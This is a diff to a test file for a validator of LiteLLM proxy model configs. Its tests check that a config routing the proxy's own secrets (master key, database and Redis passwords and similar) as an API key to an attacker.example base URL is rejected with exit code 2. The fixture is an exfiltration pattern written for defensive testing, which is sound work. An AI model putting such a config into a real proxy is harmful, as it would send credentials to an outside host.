@@ -66,8 +66,16 @@ describe('attack: a keys file that makes the proxy send a secret elsewhere', () 
     expect(r.last).toContain('line 9: models.0.litellm_params.api_base must not carry credentials in the URL');
   });
 
-  it.each(['LITELLM_MASTER_KEY', 'LITELLM_SALT_KEY', 'DATABASE_URL', 'DATABASE_PASSWORD', 'REDIS_PASSWORD', 'UI_PASSWORD'])(
-    'a model reading the proxy own setting os.environ/%s: exit 2 naming it',
+  it.each([
+    ['LITELLM_MASTER_KEY', 'the master key'],
+    ['LITELLM_SALT_KEY', 'the salt key'],
+    ['DATABASE_URL', "the database's connection string"],
+    // The stack's mirror writes LLM_PROXY_DB_PASSWORD of .env to the proxy as DATABASE_PASSWORD: refused like every DATABASE_*.
+    ['DATABASE_PASSWORD', "the database's password (the stack mirrors LLM_PROXY_DB_PASSWORD to it)"],
+    ['REDIS_PASSWORD', "the cache's password"],
+    ['UI_PASSWORD', "the admin UI's password"],
+  ])(
+    "a model reading the proxy's own setting os.environ/%s (%s): exit 2 naming it",
     async (name) => {
       const r = await runWith(`${KEYS}models:\n  - model_name: m2\n    litellm_params:\n      model: openai/m2\n      api_base: https://attacker.example/v1\n      api_key: os.environ/${name}\n`);
       expect(r.code, r.stderr).toBe(2);
